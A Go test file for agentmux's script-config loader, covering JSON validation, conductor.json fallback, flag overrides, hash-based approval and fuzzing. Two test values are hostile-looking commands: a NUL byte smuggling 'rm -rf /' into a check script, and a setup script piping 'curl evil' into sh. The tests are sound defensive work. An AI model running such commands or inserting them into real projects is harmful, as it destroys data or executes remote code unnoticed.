package scripts

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func write(t *testing.T, dir, name, content string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestAgentmuxJSON(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, FileName, `{"scripts": {"setup": "npm ci", "run": "npm run dev", "check": "npm test"}, "runMode": "exclusive"}`)
	set, err := Load(dir, Overrides{})
	if err != nil {
		t.Fatal(err)
	}
	if set.File != FileName || set.RunMode != Exclusive {
		t.Fatalf("file %q mode %q", set.File, set.RunMode)
	}
	var names []string
	for _, s := range set.Scripts {
		names = append(names, s.Name)
		if s.Source != SourceAgentmux || s.Hash != Hash(s.Text) || !s.NeedsApproval() {
			t.Errorf("%+v", s)
		}
	}
	if got := strings.Join(names, ","); got != "setup,run,check" {
		t.Fatalf("scripts %s, want setup,run,check", got)
	}
	if s, _ := set.Get(Setup); s.Text != "npm ci" {
		t.Fatalf("setup %q", s.Text)
	}
}

func TestBadAgentmuxJSON(t *testing.T) {
	for _, tc := range []struct {
		name, content, want string
	}{
		{"unknown field", `{"scripts": {"setup": "x"}, "mode": "concurrent"}`, `unknown field "mode"`},
		{"unknown script", `{"scripts": {"build": "make"}}`, `unknown field "build"`},
		{"wrong type", `{"scripts": {"setup": ["npm", "ci"]}}`, "field scripts.setup: array, want string"},
		{"scripts not an object", `{"scripts": "npm ci"}`, "field scripts: string, want object"},
		{"too big", `{"scripts": {"setup": "` + strings.Repeat("x", MaxFileSize) + `"}}`, "over 65536 bytes"},
		{"empty script", `{"scripts": {"run": "  "}}`, "field scripts.run: empty script"},
		{"NUL", `{"scripts": {"check": "npm test\u0000rm -rf /"}}`, "field scripts.check: contains a NUL"},
		{"bad mode", `{"runMode": "serial"}`, `field runMode: "serial"`},
		{"not JSON", `scripts: {}`, "not JSON"},
		{"empty", ``, "empty file"},
		{"two values", `{} {}`, "more than one JSON value"},
		{"not an object", `["npm ci"]`, "array, want a JSON object"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			write(t, dir, FileName, tc.content)
			// A conductor.json beside it is not read instead.
			write(t, dir, ConductorFileName, `{"scripts": {"setup": "ok"}}`)
			_, err := Load(dir, Overrides{})
			if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), FileName+":") || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err %v, want ErrInvalid naming %s and saying %q", err, FileName, tc.want)
			}
		})
	}
}

func TestConductorFallback(t *testing.T) {
	dir := t.TempDir()
	// Fields of Conductor's that agentmux does not read are not refused.
	write(t, dir, ConductorFileName, `{"scripts": {"setup": "bun install; cp $CONDUCTOR_ROOT_PATH/.env .env", "run": "bun dev", "archive": "rm -rf tmp"}, "runScriptMode": "nonconcurrent", "newThing": 1}`)
	set, err := Load(dir, Overrides{})
	if err != nil {
		t.Fatal(err)
	}
	if set.File != ConductorFileName || set.RunMode != Exclusive || len(set.Scripts) != 3 {
		t.Fatalf("%+v", set)
	}
	for _, s := range set.Scripts {
		if s.Source != SourceConductor {
			t.Errorf("%s from %s", s.Name, s.Source)
		}
	}
	if s, _ := set.Get(Setup); s.Text != "bun install; cp $CONDUCTOR_ROOT_PATH/.env .env" {
		t.Fatalf("setup %q, want it as it is", s.Text)
	}

	write(t, dir, ConductorFileName, `{"runScriptMode": "exclusive"}`)
	if _, err := Load(dir, Overrides{}); !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "conductor.json: field runScriptMode") {
		t.Fatalf("err %v", err)
	}
	write(t, dir, ConductorFileName, `{"runScriptMode": "concurrent"}`)
	if set, err := Load(dir, Overrides{}); err != nil || set.RunMode != Concurrent || len(set.Scripts) != 0 {
		t.Fatalf("%+v %v", set, err)
	}
}

func TestNoFile(t *testing.T) {
	set, err := Load(t.TempDir(), Overrides{})
	if err != nil || set.File != "" || set.RunMode != Concurrent || len(set.Scripts) != 0 {
		t.Fatalf("%+v %v", set, err)
	}
}

func TestFlagsWinScriptByScript(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, FileName, `{"scripts": {"setup": "npm ci", "run": "npm run dev"}}`)
	set, err := Load(dir, Overrides{Run: "npm start", Check: "npm test", RunMode: Exclusive})
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]Source{Setup: SourceAgentmux, Run: SourceFlag, Check: SourceFlag}
	if len(set.Scripts) != len(want) || set.RunMode != Exclusive {
		t.Fatalf("%+v", set)
	}
	for _, s := range set.Scripts {
		if want[s.Name] != s.Source || s.NeedsApproval() != (s.Source != SourceFlag) {
			t.Errorf("%s from %s", s.Name, s.Source)
		}
	}
	if s, _ := set.Get(Run); s.Text != "npm start" || s.Hash != Hash("npm start") {
		t.Fatalf("run %+v", s)
	}
	if _, err := Load(dir, Overrides{RunMode: "serial"}); !errors.Is(err, ErrInvalid) {
		t.Fatalf("bad flag run mode: %v", err)
	}
}

func TestChangedScriptHasNewHash(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, FileName, `{"scripts": {"setup": "npm ci"}}`)
	a, err := Load(dir, Overrides{})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, FileName, `{"scripts": {"setup": "npm ci && curl evil | sh"}}`)
	b, err := Load(dir, Overrides{})
	if err != nil {
		t.Fatal(err)
	}
	if a.Scripts[0].Hash == b.Scripts[0].Hash {
		t.Fatal("a changed script kept its hash")
	}
	if len(a.Scripts[0].Hash) != 64 {
		t.Fatalf("hash %q", a.Scripts[0].Hash)
	}
}

func TestNotARegularFile(t *testing.T) {
	dir := t.TempDir()
	if err := os.Mkdir(filepath.Join(dir, FileName), 0o755); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(dir, Overrides{}); !errors.Is(err, ErrInvalid) {
		t.Fatalf("err %v", err)
	}
}

// FuzzLoad: whatever agentmux.json holds, Load does not panic, and what
// it accepts is usable: each script non-empty, without a NUL, hashed,
// and a run mode that is one of the two.
func FuzzLoad(f *testing.F) {
	f.Add(`{"scripts": {"setup": "npm ci", "run": "npm run dev"}, "runMode": "exclusive"}`)
	f.Add(`{"scripts": {"check": ""}}`)
	f.Add(`{"scripts": null, "runMode": null}`)
	f.Add(`{"scripts": {"setup": "a\u0000b"}}`)
	f.Add(`[1, 2]`)
	dir := f.TempDir()
	f.Fuzz(func(t *testing.T, content string) {
		write(t, dir, FileName, content)
		set, err := Load(dir, Overrides{})
		if err != nil {
			if !errors.Is(err, ErrInvalid) {
				t.Fatalf("error %v is not ErrInvalid", err)
			}
			return
		}
		if set.RunMode != Concurrent && set.RunMode != Exclusive {
			t.Fatalf("run mode %q", set.RunMode)
		}
		for _, s := range set.Scripts {
			if strings.TrimSpace(s.Text) == "" || strings.ContainsRune(s.Text, 0) || s.Hash != Hash(s.Text) {
				t.Fatalf("accepted %+v", s)
			}
		}
	})
}
